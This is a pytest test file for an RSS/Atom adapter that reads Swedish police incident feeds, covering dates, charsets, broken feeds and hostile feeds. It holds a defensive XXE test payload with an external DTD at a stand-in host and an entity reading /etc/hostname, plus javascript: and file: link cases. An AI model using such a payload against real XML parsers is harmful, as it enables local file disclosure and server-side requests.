"""The rss adapter on the recorded police feed and on hand-written hostile feeds."""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import feedparser  # type: ignore[import-untyped]
import httpx
import pytest
from pydantic import ValidationError

from briefing import sources
from briefing.errors import SourceError
from briefing.models import Origin
from briefing.sources import rss
from briefing.sources.base import Batch, FetchContext, Source
from briefing.sources.http import HttpClient
from briefing.sources.rss import RssSettings, RssSource
from tests.builders import BLEKINGE_RSS as BLEKINGE
from tests.builders import DATA, TZ, build, fetch_context, offline

NOW = datetime(2022, 2, 10, 8, 0, tzinfo=TZ)
RSS = DATA / "rss"
FEED_URL = "https://polisen.se/aktuellt/rss/blekinge/handelser-rss---blekinge/"

Handler = Callable[[httpx.Request], httpx.Response]


@pytest.fixture
def http() -> Iterator[HttpClient]:
    with offline() as client:
        yield client


def context(
    http: HttpClient, now: datetime = NOW, state: dict[str, str] | None = None
) -> FetchContext:
    return fetch_context(http, now, state)


def source(origin: str = "police", **settings: Any) -> Source:
    return build("rss", "flode", origin, **settings)


def fetch_path(path: Path, http: HttpClient, **settings: Any) -> Batch:
    return source(path=path, **settings).fetch(context(http))


def fetch_url(handler: Handler, **settings: Any) -> Batch:
    with HttpClient(transport=httpx.MockTransport(handler)) as client:
        return source(url=FEED_URL, **settings).fetch(context(client))


def serve(body: bytes, content_type: str | None = "application/rss+xml; charset=utf-8") -> Handler:
    headers = {"content-type": content_type} if content_type else {}
    return lambda request: httpx.Response(200, content=body, headers=headers)


# --- the recorded police feed ---------------------------------------------------------


def test_blekinge_feed_every_item_read(http: HttpClient) -> None:
    batch = fetch_path(BLEKINGE, http)
    assert batch.problems == []
    assert len(batch.incidents) == 200
    assert len({incident.key for incident in batch.incidents}) == 200
    assert all(
        incident.url and incident.url.startswith("https://polisen.se/")
        for incident in batch.incidents
    )
    # 55 titles carry the edit prefix in the feed; none may keep it.
    assert not any(incident.title.startswith("Uppdaterad") for incident in batch.incidents)
    assert all(incident.occurred_at is not None for incident in batch.incidents)


def test_blekinge_edited_item(http: HttpClient) -> None:
    guid = "https://polisen.se/aktuellt/handelser/2022/februari/9/09-februari-0811-stoldinbrott-karlskrona/"
    item = {i.key: i for i in fetch_path(BLEKINGE, http).incidents}[guid]
    assert item.title == "09 februari 08:11, Stöld/inbrott, Karlskrona"
    assert item.type == "Stöld/inbrott"
    assert (item.municipality, item.county, item.location) == (
        "Karlskrona",
        "Blekinge län",
        "Karlskrona",
    )
    assert item.summary == "Larm om inbrott på skola, Wämö."
    assert item.published_at == datetime(2022, 2, 9, 8, 18, 12, tzinfo=TZ)
    assert item.published_at.tzinfo is TZ
    assert item.occurred_at == datetime(2022, 2, 9, 8, 11, tzinfo=TZ)
    assert "Uppdaterad 2022-02-09 08:20:44" in item.raw  # the payload as sent is kept


def test_blekinge_types_and_places_from_title(http: HttpClient) -> None:
    by_title = {i.title: i for i in fetch_path(BLEKINGE, http).incidents}
    wildlife = by_title["08 februari 17:35, Trafikolycka, vilt, Karlskrona"]
    assert wildlife.type == "Trafikolycka, vilt"
    county_wide = by_title["04 februari 06:51, Sammanfattning natt, Blekinge län"]
    assert (county_wide.municipality, county_wide.county) == (None, "Blekinge län")
    counts = {i.municipality for i in by_title.values()}
    assert counts == {"Karlskrona", "Ronneby", "Karlshamn", "Olofström", "Sölvesborg", None}


def test_new_year_rollover_dot_time_and_spelling(http: HttpClient) -> None:
    batch = fetch_path(RSS / "polisen-rss-new-year.xml", http)
    fire, damage = batch.incidents
    assert fire.title == "31 december 23:50, Brand, Järfälla"
    assert fire.occurred_at == datetime(2021, 12, 31, 23, 50, tzinfo=TZ)
    assert fire.published_at == datetime(2022, 1, 1, 0, 20, 5, tzinfo=TZ)
    assert damage.occurred_at == datetime(2022, 1, 1, 1, 5, tzinfo=TZ)
    assert (damage.municipality, damage.location) == ("Upplands-Bro", "Upplands-bro")


def test_title_municipality_wins_over_declared_one(http: HttpClient) -> None:
    batch = fetch_path(RSS / "polisen-rss-new-year.xml", http, municipality="Sollentuna")
    assert [i.municipality for i in batch.incidents] == ["Järfälla", "Upplands-Bro"]


# --- over http --------------------------------------------------------------------------


def test_url_fetch_uses_http_layer() -> None:
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(str(request.url))
        return serve(BLEKINGE.read_bytes())(request)

    batch = fetch_url(handler)
    assert seen == [FEED_URL]
    assert len(batch.incidents) == 200


def test_http_charset_reaches_feedparser() -> None:
    body = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        "<item><guid>1</guid><title>Brand i Järfälla</title>"
        "<pubDate>Wed, 07 Jun 2023 22:40:00 +0200</pubDate></item></channel></rss>"
    ).encode("latin-1")
    batch = fetch_url(serve(body, "application/rss+xml; charset=iso-8859-1"))
    assert batch.incidents[0].title == "Brand i Järfälla"
    assert batch.problems == []


def test_a_blank_body_is_not_a_feed() -> None:
    # An empty body, a login page, JSON: the adapter contract (tests/test_contract.py).
    with pytest.raises(SourceError, match="not an RSS or Atom feed"):
        fetch_url(serve(b"   ", None))


# --- untrusted content --------------------------------------------------------------------


def test_hostile_feed_links_and_markup(http: HttpClient) -> None:
    batch = fetch_path(RSS / "hostile.xml", http)
    first, second, third = batch.incidents
    assert first.url is None  # javascript:
    assert second.url is None  # file:
    assert third.url == "https://example.se/handelse/3"
    assert first.title == "Brand i Jakobsberg"
    assert first.summary == "Rök syns från taket. Läs mer"
    assert second.summary == "Styrtecken: tab och ä dubbelkodad"
    assert third.summary == "Allt lugnt."
    for incident in batch.incidents:
        for text in (incident.title, incident.summary, incident.text):
            assert "<" not in text and "alert" not in text and "\t" not in text
    assert (first.type, first.municipality, first.occurred_at) == ("", None, None)


def test_truncated_feed_keeps_entries_and_warns(tmp_path: Path, http: HttpClient) -> None:
    data = BLEKINGE.read_bytes()
    truncated = tmp_path / "truncated.xml"
    truncated.write_bytes(data[: len(data) // 2])
    batch = fetch_path(truncated, http)
    assert 90 <= len(batch.incidents) < 200
    assert len(batch.problems) == 1
    assert batch.problems[0].startswith("flode: truncated.xml: not well-formed")


def test_folder_of_feeds_with_a_broken_file(tmp_path: Path, http: HttpClient) -> None:
    (tmp_path / "a.xml").write_bytes(BLEKINGE.read_bytes())
    (tmp_path / "b.rss").write_bytes((RSS / "polisen-rss-new-year.xml").read_bytes())
    (tmp_path / "c.xml").write_bytes((RSS / "login-page.html").read_bytes())
    (tmp_path / "notes.txt").write_text("not a feed, not read")
    batch = fetch_path(tmp_path, http)
    assert len(batch.incidents) == 202
    assert len(batch.problems) == 1 and "c.xml: not an RSS or Atom feed" in batch.problems[0]


def test_folder_where_nothing_is_a_feed_fails(tmp_path: Path, http: HttpClient) -> None:
    (tmp_path / "c.xml").write_bytes((RSS / "login-page.html").read_bytes())
    with pytest.raises(SourceError, match=r"c\.xml: not an RSS or Atom feed"):
        fetch_path(tmp_path, http)


# --- feedparser never reads files or the network by itself ------------------------------


def test_parse_feed_refuses_str() -> None:
    with pytest.raises(TypeError, match="bytes only"):
        rss.parse_feed(str(BLEKINGE))  # type: ignore[arg-type]


def test_payload_spelling_a_path_is_not_opened(tmp_path: Path, http: HttpClient) -> None:
    # feedparser opens a str *or bytes* argument that names a file; the adapter
    # wraps the payload in a stream, so this file stays its own content.
    pointer = tmp_path / "pointer.xml"
    pointer.write_bytes(str(BLEKINGE.resolve()).encode())
    with pytest.raises(SourceError, match="not an RSS or Atom feed"):
        fetch_path(pointer, http)


def test_feedparser_gets_a_stream_in_both_modes(monkeypatch: pytest.MonkeyPatch) -> None:
    received: list[object] = []
    real_parse = feedparser.parse

    def spy(document: object, **kwargs: Any) -> Any:
        received.append(document)
        return real_parse(document, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    with offline() as client:
        fetch_path(BLEKINGE, client)
    fetch_url(serve(BLEKINGE.read_bytes()))
    assert len(received) == 2
    assert all(hasattr(document, "read") for document in received)


_AUDIT: list[tuple[str, str]] = []
_AUDITING = [False]


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _AUDITING[0] and event in ("open", "socket.connect", "urllib.Request"):
        _AUDIT.append((event, repr(args)[:120]))


def test_no_file_or_socket_opened_while_parsing_hostile_doctype() -> None:
    xxe = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE rss SYSTEM "https://example.se/evil.dtd" [\n'
        b'  <!ENTITY xxe SYSTEM "file:///etc/hostname">\n'
        b'  <!ENTITY % remote SYSTEM "https://example.se/p.dtd"> %remote;\n'
        b"]>\n"
        b'<rss version="2.0"><channel><title>x</title><item><guid>1</guid>'
        b"<title>Leak: &xxe;</title><description>&xxe;</description>"
        b"<pubDate>Wed, 07 Jun 2023 22:40:00 +0200</pubDate></item></channel></rss>"
    )
    fetch_url(serve(xxe))  # warm-up: lazy imports open module files
    sys.addaudithook(_audit)
    _AUDITING[0] = True
    try:
        batch = fetch_url(serve(xxe))
        parsed_events = list(_AUDIT)
        Path(__file__).read_bytes()  # the hook does see an open
    finally:
        _AUDITING[0] = False
    assert parsed_events == []
    assert [event for event, _ in _AUDIT] == ["open"]
    hostname = Path("/etc/hostname")
    secret = hostname.read_text().strip() if hostname.exists() else "\x00never"
    assert all(secret not in incident.title + incident.summary for incident in batch.incidents)


# --- Atom, undated entries, declared municipality -----------------------------------------


def test_atom_feed_undated_entry_kept_with_first_seen_time(http: HttpClient) -> None:
    feed = source(origin="authority", path=RSS / "atom-undated.atom", municipality="0123")
    first = feed.fetch(context(http))
    by_title = {i.title: i for i in first.incidents}
    undated = by_title["Utan datum"]
    assert undated.published_at == NOW
    assert len(first.problems) == 1
    assert "entry 1 ('Utan datum') has no readable date" in first.problems[0]
    later = datetime(2022, 2, 11, 8, 0, tzinfo=TZ)
    second = feed.fetch(context(http, now=later, state=first.state))
    again = {i.title: i for i in second.incidents}["Utan datum"]
    assert again.published_at == NOW  # not a new version every morning
    assert again.fingerprint() == undated.fingerprint()
    assert second.state == first.state


def test_atom_entry_fields_and_declared_municipality(http: HttpClient) -> None:
    batch = source(origin="authority", path=RSS / "atom-undated.atom", municipality="0123").fetch(
        context(http)
    )
    by_title = {i.title: i for i in batch.incidents}
    news = by_title["Ökad närvaro i Jakobsbergs centrum"]
    assert news.key == "urn:example:trygghet:1"
    assert news.url == "https://example.se/nytt/1"
    assert news.summary == "Kommunen förstärker med trygghetsvärdar."
    assert "Värdarna finns på plats fredag och lördag kväll." in news.text
    assert news.published_at == datetime(2023, 6, 7, 20, 15, tzinfo=TZ)
    assert (news.municipality, news.county, news.type) == ("Järfälla", "Stockholms län", "")
    anonymous = by_title["Utan id och länk"]
    assert len(anonymous.key) == 32 and anonymous.url is None


def test_key_without_guid_or_link_is_stable(http: HttpClient) -> None:
    keys = [
        {i.title: i.key for i in fetch_path(RSS / "atom-undated.atom", http).incidents}
        for _ in range(2)
    ]
    assert keys[0]["Utan id och länk"] == keys[1]["Utan id och länk"]


# --- settings and registry ------------------------------------------------------------------


def test_registered_as_rss() -> None:
    assert sources.adapter("rss") is RssSource


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"municipality": "Atlantis"}, "not a Swedish municipality"),
        ({"colour": "red"}, "Extra inputs"),
    ],
)
def test_settings_refuse_bad_keys(extra: dict[str, str], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        RssSettings(kind="rss", origin=Origin.POLICE, url=FEED_URL, **extra)  # type: ignore[arg-type]
